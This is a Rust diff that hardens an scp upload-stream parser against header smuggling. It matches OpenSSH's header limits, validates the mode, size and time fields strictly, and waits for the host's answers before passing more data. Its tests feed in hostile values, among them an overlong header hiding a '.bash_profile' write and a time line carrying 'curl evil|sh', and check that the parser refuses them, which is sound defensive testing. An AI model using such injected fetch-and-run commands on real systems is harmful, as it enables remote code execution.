@@ -6,8 +6,10 @@
 //! `D<mode> 0 <name>\n` to enter a directory, `E\n` to leave it, `T<mtime> 0 <atime> 0\n`
 //! before either with `-p`, and `\x01`/`\x02` messages.
 
-/// The longest header line read (OpenSSH's sink reads at most a few KiB).
-const MAX_HEADER: usize = 8192;
+/// The longest header line, its newline included. OpenSSH's sink reads at most this many
+/// bytes into a header and takes what follows as the next one; a longer line would be read
+/// differently here and there, so it is refused.
+const MAX_HEADER: usize = 2047;
 
 /// What the stream carries, in order.
 #[derive(Debug, PartialEq, Eq)]
@@ -25,6 +27,81 @@ pub enum Item {
     },
     /// The stream cannot be read as scp: refuse it, with the reason.
     Refuse(String),
+    /// Pass nothing more until the host has answered this many times, none with an error
+    /// (after a file's header: a host that refused the file reads what follows as headers).
+    Await(u64),
+}
+
+/// The host's answers to an upload as they pass back: one `\0` for each header, time line
+/// and finished file, or an error message (`\x01`/`\x02` … `\n`).
+#[derive(Debug, Default)]
+pub struct Answers {
+    state: std::sync::Mutex<AnswerState>,
+    changed: tokio::sync::Notify,
+}
+
+#[derive(Debug, Default)]
+struct AnswerState {
+    ok: u64,
+    failed: bool,
+    in_message: bool,
+    closed: bool,
+}
+
+impl Answers {
+    /// Reads bytes the host sent to the agent.
+    pub fn feed(&self, data: &[u8]) {
+        if let Ok(mut s) = self.state.lock() {
+            for b in data {
+                if s.in_message {
+                    s.in_message = *b != b'\n';
+                    continue;
+                }
+                match b {
+                    0 => s.ok += 1,
+                    1 | 2 => {
+                        s.failed = true;
+                        s.in_message = true;
+                    }
+                    _ => {}
+                }
+            }
+        }
+        self.changed.notify_waiters();
+    }
+
+    /// The host's side ended.
+    pub fn close(&self) {
+        if let Ok(mut s) = self.state.lock() {
+            s.closed = true;
+        }
+        self.changed.notify_waiters();
+    }
+
+    /// Waits until the host has answered `n` times; `false` when an answer was an error or
+    /// the host's side ended first.
+    pub async fn wait(&self, n: u64) -> bool {
+        loop {
+            let notified = self.changed.notified();
+            tokio::pin!(notified);
+            notified.as_mut().enable();
+            {
+                let Ok(s) = self.state.lock() else {
+                    return false;
+                };
+                if s.failed {
+                    return false;
+                }
+                if s.ok >= n {
+                    return true;
+                }
+                if s.closed {
+                    return false;
+                }
+            }
+            notified.await;
+        }
+    }
 }
 
 /// One upload's state.
@@ -36,6 +113,9 @@ pub struct Upload {
     remaining: u64,
     line: Vec<u8>,
     failed: bool,
+    /// How many answers the host gives for what has passed (its first `\0` says it is
+    /// ready).
+    answers: u64,
 }
 
 impl Upload {
@@ -64,6 +144,7 @@ impl Upload {
             remaining: 0,
             line: Vec::new(),
             failed: false,
+            answers: 1,
         })
     }
 
@@ -78,17 +159,25 @@ impl Upload {
                 out.push(Item::Pass(data[..n].to_vec()));
                 self.remaining -= n as u64;
                 data = &data[n..];
+                if self.remaining == 0 {
+                    // The file's end: the host answers once it is written.
+                    self.answers += 1;
+                }
                 continue;
             }
             let Some(nl) = data.iter().position(|b| *b == b'\n') else {
                 self.line.extend_from_slice(data);
-                if self.line.len() > MAX_HEADER {
+                if self.line.len() >= MAX_HEADER {
                     self.fail(&mut out, "an scp header line is too long");
                 }
                 break;
             };
             self.line.extend_from_slice(&data[..=nl]);
             data = &data[nl + 1..];
+            if self.line.len() > MAX_HEADER {
+                self.fail(&mut out, "an scp header line is too long");
+                break;
+            }
             let line = std::mem::take(&mut self.line);
             self.header(line, &mut out);
         }
@@ -115,8 +204,15 @@ impl Upload {
                 else {
                     return self.fail(out, "an scp header cannot be read");
                 };
-                let (Ok(mode), Ok(size)) = (u32::from_str_radix(mode, 8), size.parse::<u64>())
-                else {
+                // As OpenSSH reads them: four octal digits, then decimal digits.
+                let octal = mode.len() == 4 && mode.bytes().all(|b| (b'0'..=b'7').contains(&b));
+                let decimal = !size.is_empty() && size.bytes().all(|b| b.is_ascii_digit());
+                let (true, true, Ok(mode), Ok(size)) = (
+                    octal,
+                    decimal,
+                    u32::from_str_radix(mode, 8),
+                    size.parse::<u64>(),
+                ) else {
                     return self.fail(out, "an scp header cannot be read");
                 };
                 if name.is_empty() || name == "." || name == ".." || name.contains('/') {
@@ -144,11 +240,30 @@ impl Upload {
                 } else {
                     self.dirs.push(name.to_owned());
                 }
+                // What follows waits for the host's answer to this header: if it refused
+                // the file, it reads the next bytes as headers, not as the file.
+                self.answers += 1;
+                out.push(Item::Pass(line));
+                out.push(Item::Await(self.answers));
+                return;
             }
             Some(b'E') => {
                 self.dirs.pop();
+                self.answers += 1;
             }
-            Some(b'T' | 1 | 2) => {}
+            // Times: `T<mtime> 0 <atime> 0`, digits only.
+            Some(b'T') => {
+                let fields: Vec<&str> = text[1..].split(' ').collect();
+                if fields.len() != 4
+                    || fields
+                        .iter()
+                        .any(|f| f.is_empty() || !f.bytes().all(|b| b.is_ascii_digit()))
+                {
+                    return self.fail(out, "an scp times line cannot be read");
+                }
+                self.answers += 1;
+            }
+            Some(1 | 2) => {}
             _ => return self.fail(out, "the scp stream cannot be read"),
         }
         out.push(Item::Pass(line));
@@ -195,6 +310,15 @@ mod tests {
             })
             .collect();
         assert_eq!(passed, stream);
+        // Each header waits for the host's answer to it (the first answer is its "ready").
+        let waits: Vec<u64> = items
+            .iter()
+            .filter_map(|i| match i {
+                Item::Await(n) => Some(*n),
+                _ => None,
+            })
+            .collect();
+        assert_eq!(waits, [2, 3, 7]);
     }
 
     #[test]
@@ -212,5 +336,16 @@ mod tests {
             Some(Item::Refuse(_))
         ));
         assert!(Upload::new("scp -f /etc/hosts").is_none());
+        // A header longer than OpenSSH's sink reads: refused, not read differently.
+        let mut u = Upload::new("scp -t .").unwrap();
+        let mut long = vec![1u8];
+        long.extend(vec![b'A'; 2046]);
+        long.extend_from_slice(b"C0644 22 .bash_profile\n");
+        assert!(matches!(u.feed(&long).last(), Some(Item::Refuse(_))));
+        let mut u = Upload::new("scp -t .").unwrap();
+        assert!(matches!(
+            u.feed(b"T=1;curl evil|sh;#\n").last(),
+            Some(Item::Refuse(_))
+        ));
     }
 }
